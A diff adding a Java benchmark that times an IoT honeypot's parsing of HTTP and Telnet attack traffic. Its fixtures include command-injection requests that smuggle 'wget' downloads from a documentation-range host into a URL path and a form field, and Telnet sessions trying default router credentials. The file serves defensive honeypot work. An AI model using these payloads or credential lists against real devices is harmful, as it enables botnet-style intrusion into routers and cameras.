@@ -0,0 +1,151 @@
+package com.iot.honeypot.benchmarks;
+
+import com.iot.honeypot.entity.AttackLog;
+import com.iot.honeypot.honeypot.HttpRequestParser;
+import com.iot.honeypot.honeypot.TelnetConversation;
+import com.iot.honeypot.honeypot.TelnetProperties;
+import org.openjdk.jmh.annotations.Benchmark;
+import org.openjdk.jmh.annotations.BenchmarkMode;
+import org.openjdk.jmh.annotations.Fork;
+import org.openjdk.jmh.annotations.Measurement;
+import org.openjdk.jmh.annotations.Mode;
+import org.openjdk.jmh.annotations.OutputTimeUnit;
+import org.openjdk.jmh.annotations.Scope;
+import org.openjdk.jmh.annotations.State;
+import org.openjdk.jmh.annotations.Warmup;
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.util.concurrent.TimeUnit;
+
+/**
+ * Per-connection parsing work of the HTTP and Telnet honeypots, from raw
+ * bytes to the {@link AttackLog} handed to the service, for both the
+ * non-blocking sessions and the thread-per-connection handlers. HTTP parsers
+ * come from a pool as in the honeypot; a Telnet conversation is created per
+ * invocation because the honeypot creates one per session.
+ *
+ * <pre>
+ * java -jar target/benchmarks.jar ProtocolParsingBenchmark
+ * </pre>
+ */
+@State(Scope.Thread)
+@BenchmarkMode(Mode.AverageTime)
+@OutputTimeUnit(TimeUnit.NANOSECONDS)
+@Warmup(iterations = 3, time = 1)
+@Measurement(iterations = 5, time = 1)
+@Fork(1)
+public class ProtocolParsingBenchmark {
+    // Same caps as HttpHoneypot and TelnetHoneypot
+    private static final int HTTP_MAX_HEAD_BYTES = 8192;
+    private static final int HTTP_MAX_HEADERS = 100;
+    private static final int HTTP_MAX_BODY_BYTES = 8192;
+    
+    private static final byte[] HTTP_REQUEST = (
+            "GET /cgi-bin/;cd${IFS}/var/tmp;wget${IFS}http://198.51.100.9/mips HTTP/1.1\r\n" +
+            "Host: 192.0.2.10:8081\r\n" +
+            "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36\r\n" +
+            "Accept: */*\r\n" +
+            "Accept-Encoding: gzip, deflate\r\n" +
+            "Accept-Language: en-US,en;q=0.9\r\n" +
+            "Cache-Control: no-cache\r\n" +
+            "Connection: keep-alive\r\n" +
+            "\r\n").getBytes(StandardCharsets.US_ASCII);
+    private static final byte[] HTTP_EXPLOIT_POST = (
+            "POST /cgi-bin/ViewLog.asp HTTP/1.1\r\n" +
+            "Host: 192.0.2.10:8081\r\n" +
+            "User-Agent: python-requests/2.20.0\r\n" +
+            "Accept: */*\r\n" +
+            "Content-Type: application/x-www-form-urlencoded\r\n" +
+            "Content-Length: 125\r\n" +
+            "\r\n" +
+            "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0" +
+            "&remote_host=%3bcd+/tmp;wget+http://198.51.100.9/m").getBytes(StandardCharsets.US_ASCII);
+    // A bot's reply to the opening negotiation, then its guesses
+    private static final byte[] TELNET_LOGIN = telnet("\u00ff\u00fd\u0001\u00ff\u00fd\u0003\u00ff\u00fb\u001f", "root/xc3511");
+    private static final byte[] TELNET_TEN_ATTEMPTS = telnet("\u00ff\u00fd\u0001\u00ff\u00fd\u0003\u00ff\u00fb\u001f",
+            "root/xc3511", "root/vizxv", "admin/admin", "root/admin", "root/888888",
+            "root/default", "support/support", "root/12345", "user/user", "root/root");
+    private static final byte[] TELNET_BANNER = "TL-WR840N login: ".getBytes(StandardCharsets.US_ASCII);
+    
+    private final TelnetProperties telnetSettings = new TelnetProperties();
+    
+    private static byte[] telnet(String negotiation, String... logins) {
+        StringBuilder session = new StringBuilder(negotiation);
+        for (String login : logins) {
+            session.append(login.replace('/', '\r')).append("\r\n");
+        }
+        return session.toString().getBytes(StandardCharsets.ISO_8859_1);
+    }
+    
+    private final HttpRequestParser.Pool parsers =
+            new HttpRequestParser.Pool(HTTP_MAX_HEAD_BYTES, HTTP_MAX_HEADERS, HTTP_MAX_BODY_BYTES, 1);
+    
+    @Benchmark
+    public AttackLog httpSession() {
+        return parseSession(HTTP_REQUEST);
+    }
+    
+    @Benchmark
+    public AttackLog httpSessionPost() {
+        return parseSession(HTTP_EXPLOIT_POST);
+    }
+    
+    @Benchmark
+    public AttackLog httpHandler() throws IOException {
+        HttpRequestParser request = parsers.acquire();
+        ByteArrayInputStream in = new ByteArrayInputStream(HTTP_REQUEST);
+        while (request.readFrom(in) == HttpRequestParser.Status.INCOMPLETE) {
+            // readFrom() reads straight into the parser's buffer
+        }
+        AttackLog attack = request.toAttack("198.51.100.7", null, "D-Link Camera");
+        parsers.release(request);
+        return attack;
+    }
+    
+    private AttackLog parseSession(byte[] bytes) {
+        HttpRequestParser request = parsers.acquire();
+        request.offer(ByteBuffer.wrap(bytes));
+        AttackLog attack = request.toAttack("198.51.100.7", null, "D-Link Camera");
+        parsers.release(request);
+        return attack;
+    }
+    
+    @Benchmark
+    public AttackLog telnetSession() {
+        return converse(TELNET_LOGIN);
+    }
+    
+    @Benchmark
+    public AttackLog telnetTenAttempts() {
+        return converse(TELNET_TEN_ATTEMPTS);
+    }
+    
+    /** A whole session against an output side that discards writes and runs every delay at once. */
+    private AttackLog converse(byte[] bytes) {
+        TelnetConversation conversation = new TelnetConversation(telnetSettings, new TelnetConversation.Io() {
+            @Override
+            public void write(byte[] data) {
+            }
+            
+            @Override
+            public void banner(byte[] data, Runnable then) {
+                then.run();
+            }
+            
+            @Override
+            public void reply(byte[] data, Runnable then) {
+                then.run();
+            }
+            
+            @Override
+            public void close() {
+            }
+        }, TELNET_BANNER);
+        conversation.start();
+        conversation.onData(ByteBuffer.wrap(bytes));
+        conversation.onClose();
+        return conversation.toAttack("198.51.100.7", null, "TP-Link Router");
+    }
+}
\ No newline at end of file